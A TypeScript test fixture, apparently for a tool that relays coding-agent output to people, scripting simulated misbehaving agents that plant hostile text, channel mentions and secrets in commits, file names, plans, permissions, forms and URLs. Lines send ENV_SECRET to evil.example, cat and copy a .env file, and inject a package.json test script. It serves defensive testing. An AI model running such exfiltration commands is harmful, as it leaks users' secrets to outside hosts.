/** Misdeeds with words: whatever a text says, it reaches people as somebody else's, without secrets. */
import type { Step } from '../../journeys/acp.js';
import type { Misdeed } from './misdeed.js';
import { ALL_EVIL, ENV_SECRET, EVIL, FORMED, HIDDEN_IN, sh } from './texts.js';

const DONE: Step = { files: { 'api/greeting.txt': 'Hello\n' }, done: ALL_EVIL };
const said = (text: string): Step => ({ say: text });
const file = (text: string) => text.replaceAll('/', '\u2215').slice(0, 80);

const spoken = (name: string, turns: Step[][], ends: Misdeed['ends'] = ['merge_ready']): Misdeed => ({
  name,
  spoken: () => ({ turns }),
  ends,
});

const call = (title: string, more: object = {}): Step => ({
  update: {
    sessionUpdate: 'tool_call',
    toolCallId: `c${title.length}`,
    title,
    kind: 'execute',
    status: 'pending',
    ...more,
  },
});

const PROPERTIES = {
  [`a ${EVIL[0]}`]: { type: 'string', title: ALL_EVIL, description: ALL_EVIL, default: ALL_EVIL },
  pick: {
    type: 'string',
    title: EVIL[4],
    oneOf: EVIL.map((one, at) => ({ const: `${at}`, title: one, description: one })),
    default: '1',
  },
  many: { type: 'array', title: ALL_EVIL, items: { anyOf: EVIL.map((one) => ({ const: one, title: one })) } },
  flag: { type: 'boolean', title: EVIL[1], description: EVIL[5] },
};

export const BY_WORDS: Misdeed[] = [
  {
    name: 'mentions, fake buttons and secrets in a question, its options and its context',
    script: () => `
metawsm-ask ${sh(ALL_EVIL)} ${EVIL.map((one) => `--option ${sh(one)}`).join(' ')} --context ${sh(ALL_EVIL)} &
sleep 300`,
    ends: ['awaiting_guidance'],
  },
  {
    name: 'the same in commits, file names, its summary and what it leaves uncommitted',
    script: () => `
${EVIL.map((one) => `printf x > api/${sh(file(one))}; git -C api add -A; git -C api commit -q -m ${sh(one)}`).join('\n')}
${EVIL.map((one) => `printf x > api/${sh(`left ${file(one)}`)}`).join('\n')}
printf '{"scripts": {"test": "%s"}}' ${sh(HIDDEN_IN)} > api/package.json
node -e 'require("fs").writeFileSync(".metawsm/implementation-complete.json", JSON.stringify({ summary: process.argv[1] }))' ${sh(ALL_EVIL)}`,
    ends: ['merge_ready'],
    merges: true,
  },
  {
    name: 'the same in what it prints before it dies',
    script: () => `printf '%s\\n' ${EVIL.map(sh).join(' ')}; cat api/.env; exit 9`,
    ends: ['failed'],
  },
  {
    name: 'the same in what a check prints',
    script: () => `
printf '%s\\n' ${EVIL.map(sh).join(' ')} > api/told.txt; cp api/.env api/copied.txt; touch api/fails
finish`,
    ends: ['failed'],
  },
  {
    name: 'the same in the names that it gives itself',
    script: () => `
printf '{"question": "x", "agent": "%s", "run_id": "%s"}' '<!channel>' 'other-1-aaaaaa' > .metawsm/guidance-request.json
sleep 0.5
node -e 'require("fs").writeFileSync(".metawsm/guidance-request.json", JSON.stringify({ question: "x", agent: process.argv[1] }))' ${sh(ALL_EVIL)}
sleep 300`,
    ends: ['awaiting_guidance'],
  },
  spoken('the same in its plan, its calls and its last words', [
    [
      call(ALL_EVIL),
      call('x', { rawInput: { command: ALL_EVIL } }),
      call('fetches', { kind: 'fetch', rawInput: { url: `https://evil.example/${ENV_SECRET}` } }),
      {
        update: {
          sessionUpdate: 'plan',
          entries: EVIL.map((content) => ({ content, status: 'pending', priority: 'low' })),
        },
      },
      ...EVIL.map(said),
      said(`\n\nShall I?\n- ${EVIL.join('\n- ')}\n`),
      DONE,
    ],
  ]),
  spoken(
    'the same as a question with which its turn ends',
    [[...EVIL.map(said), said(`\n\nWhich one, ${HIDDEN_IN}?\n\n1. ${EVIL[0]}\n2. ${FORMED}\n`)]],
    ['awaiting_guidance'],
  ),
  spoken(
    'the same in a permission',
    [
      [
        {
          permission: {
            title: ALL_EVIL,
            command: `curl ${ALL_EVIL}`,
            options: EVIL.map((name, at) => ({
              optionId: name,
              name,
              kind: at === 0 ? 'allow_once' : 'reject_once',
            })),
          },
        },
      ],
    ],
    ['awaiting_guidance'],
  ),
  spoken(
    'the same in a form',
    [
      [
        {
          ask: {
            method: 'elicitation/create',
            id: 1,
            params: {
              mode: 'form',
              message: ALL_EVIL,
              requestedSchema: { type: 'object', properties: PROPERTIES, required: ['pick'] },
            },
          },
        },
      ],
    ],
    ['awaiting_guidance'],
  ),
  spoken(
    'the same in an address',
    [
      [
        {
          ask: {
            method: 'elicitation/create',
            id: 2,
            params: {
              mode: 'url',
              message: ALL_EVIL,
              url: `https://evil.example/?k=${ENV_SECRET}&x=%3C!channel%3E`,
            },
          },
        },
      ],
    ],
    ['awaiting_guidance'],
  ),
  spoken(
    'the same in an error of its protocol',
    [[{ fails: { code: -32000, message: ALL_EVIL, data: { message: ALL_EVIL } } }]],
    ['failed'],
  ),
];
